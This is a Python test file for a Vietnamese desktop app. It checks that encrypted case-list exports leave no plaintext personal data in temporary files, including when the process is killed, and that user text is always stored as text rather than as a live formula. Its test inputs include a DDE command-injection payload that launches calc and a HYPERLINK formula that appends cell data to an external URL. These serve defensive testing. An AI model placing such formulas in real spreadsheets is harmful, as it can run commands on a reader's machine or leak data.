"""What the app writes out is safe to open: a protected list never lands on the disk in plain (not even in a
temporary file), text from user data is never a live formula, and what was imported comes back out."""

from __future__ import annotations

import io
import os
import re
import tempfile
import threading
import zipfile
from pathlib import Path
from typing import Any

import msoffcrypto
import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl import Workbook, load_workbook

from desktop_app.domain.activities import FORM_CONFERENCE, CommunicationInput
from desktop_app.domain.cases import CaseInput, IdentityInput
from desktop_app.domain.office import CommuneInput, OfficeProfile
from desktop_app.domain.security import ROLE_SUPPORT, SYSTEM, Actor
from desktop_app.exports.xlsx_sheets import new_workbook, put_value, safe_row, workbook_bytes
from desktop_app.services.app_services import Services, open_services
from tests.conftest import COMMUNES, configure, sample_input

WORKER = Actor(None, "mai.vt", ROLE_SUPPORT)
PASSWORD = "mat-khau-tep-hs"
NAME = "Lò Thị Hương"
CCCD = "014198001234"
LINK = '=HYPERLINK("http://x.example/?"&B7,"Bấm")'
DDE = "=cmd|' /C calc'!A0"


def _add_case(services: Services, needs: str = "Học nghề may; vay vốn") -> None:
    commune = next(c for c in services.office.communes() if c.name == "Xã Cò Nòi")
    services.db.actor = WORKER
    services.cases.create(
        CaseInput("01/03/2025", commune.id, needs=needs, consent_on="01/03/2025", consent_way="van_ban"),
        IdentityInput(NAME, birth_year="1998", id_number=CCCD, address="Bản Nà Sản"),
    )


def _decrypted(path: Path) -> Any:
    with path.open("rb") as fh:
        encrypted = msoffcrypto.OfficeFile(fh)
        encrypted.load_key(password=PASSWORD)
        plain = io.BytesIO()
        encrypted.decrypt(plain)
    return load_workbook(plain).active


def _formulas(xlsx: Path | bytes) -> list[str]:
    """The sheets of a workbook file that hold a formula (<f> element)."""
    source = io.BytesIO(xlsx) if isinstance(xlsx, bytes) else xlsx
    with zipfile.ZipFile(source) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", archive.read(name))
        ]


class _Watch(threading.Event):
    """A cancel event that looks into the temporary folder each time the export asks whether to stop."""

    def __init__(self, folder: Path, seen: list[list[str]]) -> None:
        super().__init__()
        self._folder, self._seen = folder, seen

    def is_set(self) -> bool:
        self._seen.append(sorted(os.listdir(self._folder)))
        return super().is_set()


def test_the_protected_case_list_never_puts_a_plain_byte_in_the_temporary_folder(
    office: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _add_case(office)
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))  # what TMPDIR sets; openpyxl's temp files go there
    seen: list[list[str]] = []
    encrypt = OOXMLFile.encrypt

    def watched_encrypt(self: OOXMLFile, password: str, outfile: Any) -> None:
        seen.append(sorted(os.listdir(folder)))  # the plain workbook is complete at this point
        encrypt(self, password, outfile)
        seen.append(sorted(os.listdir(folder)))

    monkeypatch.setattr(OOXMLFile, "encrypt", watched_encrypt)
    target = tmp_path / "ho-so.xlsx"
    assert office.case_transfer.export(target, PASSWORD, cancel=_Watch(folder, seen)) == 1
    assert len(seen) >= 3  # after the rows, before and after the encryption
    assert seen == [[]] * len(seen)  # a kill at any of these points leaves nothing behind
    assert os.listdir(folder) == []
    assert NAME.encode() not in target.read_bytes() and CCCD.encode() not in target.read_bytes()
    assert not list(tmp_path.glob("*.part"))


def test_an_in_memory_workbook_opens_no_temporary_file(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_temp_file(*args: object, **kwargs: object) -> None:
        raise AssertionError("a temporary file was opened")

    monkeypatch.setattr("openpyxl.worksheet._writer.create_temporary_file", no_temp_file)
    from desktop_app.exports.xlsx_sheets import list_sheet

    workbook = new_workbook(in_memory=True)
    ws = list_sheet(workbook, "Hồ sơ", ["Họ và tên"], [20], "Đơn vị", "DANH SÁCH", None)
    ws.append(safe_row(ws, [NAME]))
    data = workbook_bytes(workbook)
    assert load_workbook(io.BytesIO(data)).active["A6"].value == NAME


def test_the_case_list_carries_the_needs_and_imports_back_with_them(office: Services, tmp_path: Path) -> None:
    _add_case(office, needs="Học nghề may; vay vốn")
    target = tmp_path / "ho-so.xlsx"
    office.case_transfer.export(target, PASSWORD)
    ws = _decrypted(target)
    headers = [c.value for c in ws[5]]
    row = [c.value for c in ws[6]]
    assert row[headers.index("Nhu cầu")] == "Học nghề may; vay vốn"
    plain = tmp_path / "mo-khoa.xlsx"
    ws.parent.save(plain)
    other = open_services(tmp_path / "khac.sqlite3", actor=SYSTEM)
    try:
        configure(other)
        other.db.actor = WORKER
        preview = other.case_transfer.preview(plain)
        assert preview.rows[0].record.case.needs == "Học nghề may; vay vốn"
    finally:
        other.close()


@pytest.mark.parametrize(
    "text",
    [LINK, DDE, "=1+1", "+84 912", "-5", "@SUM(A1)", "\tx", "#REF!", "- đã nhắc nhở", "Nhà nghỉ An"],
)
def test_text_is_always_a_text_cell_shown_as_it_is(text: str) -> None:
    workbook = Workbook()
    ws = workbook.active
    assert ws is not None
    put_value(ws["A1"], text)
    put_value(ws["A2"], 12)
    data = workbook_bytes(workbook)
    assert _formulas(data) == []
    back = load_workbook(io.BytesIO(data)).active
    assert back["A1"].value == text and back["A1"].data_type == "s" and back["A2"].value == 12
    assert back["A1"].quotePrefix == (text[0] in "=+-@\t#")
    streamed = new_workbook()
    sheet = streamed.create_sheet("x")
    sheet.append(safe_row(sheet, [text, 12, None]))
    buffer = io.BytesIO()
    streamed.save(buffer)
    assert _formulas(buffer.getvalue()) == []
    assert load_workbook(buffer).active["A1"].value == text


def test_no_export_turns_a_name_into_a_formula(office: Services, tmp_path: Path) -> None:
    office.businesses.create(
        sample_input(
            office,
            name=LINK,
            owner_name=DDE,
            sub_licences="@SUM(1+1)",
            notes="- đã nhắc nhở lần 2",
        )
    )
    target = tmp_path / "co-so.xlsx"
    office.transfer.export(target)
    assert _formulas(target) == []
    ws = load_workbook(target).active
    row = next(r for r in ws.iter_rows(min_row=6, values_only=True) if r[1] == LINK)
    assert (row[5], row[10], row[17]) == (DDE, "@SUM(1+1)", "- đã nhắc nhở lần 2")
    # The rows an import leaves out go back to the clerk as they were, formulas included, as text.
    source = tmp_path / "ds.csv"
    source.write_text(f"Tên cơ sở,Loại hình,Xã/phường\n{DDE},Không có loại này,Xã Mường Bon\n", "utf-8")
    preview = office.transfer.preview(source)
    rejected = tmp_path / "chua-nhap.xlsx"
    assert office.transfer.save_rejected(preview, rejected) == 1
    assert _formulas(rejected) == []
    assert load_workbook(rejected).active["A2"].value == DDE


def test_a_communication_title_like_a_formula_stays_text(office: Services, tmp_path: Path) -> None:
    commune = next(c for c in office.office.communes() if c.name == "Xã Cò Nòi")
    office.activities.create_communication(
        CommunicationInput(commune.id, "05/03/2026", FORM_CONFERENCE, LINK, 120, notes="-ghi chú")
    )
    target = tmp_path / "tuyen-truyen.xlsx"
    assert office.communication_transfer.export(target) == 1
    assert _formulas(target) == []
    values = [v for row in load_workbook(target).active.iter_rows(values_only=True) for v in row]
    assert LINK in values and "-ghi chú" in values


def test_a_unit_named_like_a_formula_stays_text_in_the_report_workbook(
    services: Services, tmp_path: Path
) -> None:
    from desktop_app.domain.periods import parse_period

    profile = OfficeProfile(
        issuing_unit=LINK,
        parent_unit=DDE,
        place_name="Mai Sơn",
        upward_recipient="Sở Y tế tỉnh Sơn La",
        signer_name="=1+1",
        signer_position="Trưởng phòng",
    )
    services.office.setup(profile, [CommuneInput(name) for name in COMMUNES])
    path = services.reports.write_xlsx(services.reports.report(parse_period("2026S1")), tmp_path / "bc.xlsx")
    assert _formulas(path) == []
    values = {c.value for ws in load_workbook(path) for row in ws.iter_rows() for c in row}
    assert LINK.upper() in values and DDE.upper() in values and "=1+1" in values


# ---- Killed in the middle, as the command line runs it
_KILLABLE_EXPORT = """
import sys, time
from msoffcrypto.format.ooxml import OOXMLFile
from desktop_app.exports import cases_xlsx
from desktop_app.__main__ import main

stop_at, db, target = sys.argv[1:4]
append_rows, encrypt = cases_xlsx.append_rows, OOXMLFile.encrypt

def wait_here(point):
    if point == stop_at:
        print(point, flush=True)
        time.sleep(60)

def appended(*args, **kwargs):
    append_rows(*args, **kwargs)
    wait_here("rows")  # every row is in the workbook, nothing saved yet

def encrypting(self, password, outfile):
    wait_here("encrypt")  # the whole plain workbook exists
    encrypt(self, password, outfile)

cases_xlsx.append_rows, OOXMLFile.encrypt = appended, encrypting
sys.exit(main(["--db", db, "export", "cases", target]))
"""


@pytest.mark.parametrize("stop_at", ["rows", "encrypt"])
def test_killing_the_protected_export_leaves_no_identity_in_the_temporary_folder(
    tmp_path: Path, stop_at: str
) -> None:
    import signal
    import subprocess
    import sys

    from tests.conftest import ADMIN_PASSWORD, ADMIN_USER, ensure_admin

    db = tmp_path / "pcmd.sqlite3"
    services = open_services(db, actor=SYSTEM)
    try:
        configure(services)
        for _ in range(3):
            _add_case(services)
    finally:
        services.close()
    ensure_admin(db)
    folder = tmp_path / "tmp"
    folder.mkdir()
    target = tmp_path / "ho-so.xlsx"
    root = Path(__file__).resolve().parents[2]
    env = {
        **os.environ,
        "PYTHONPATH": str(root),
        "TMPDIR": str(folder),
        "PCMD_USER": ADMIN_USER,
        "PCMD_PASSWORD": ADMIN_PASSWORD,
        "PCMD_FILE_PASSWORD": PASSWORD,
    }
    process = subprocess.Popen(
        [sys.executable, "-c", _KILLABLE_EXPORT, stop_at, str(db), str(target)],
        cwd=root,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    line = process.stdout.readline()
    assert line.strip() == stop_at, process.stderr.read() if process.stderr else ""
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    left = [p for p in folder.rglob("*") if p.is_file()]
    assert left == []  # before: openpyxl.* with every name, CCCD and address in plain XML
    assert not target.exists()
    for path in tmp_path.rglob("*"):
        if path.is_file() and path.suffix != ".sqlite3" and "sqlite3" not in path.name:
            assert NAME.encode() not in path.read_bytes() and CCCD.encode() not in path.read_bytes()
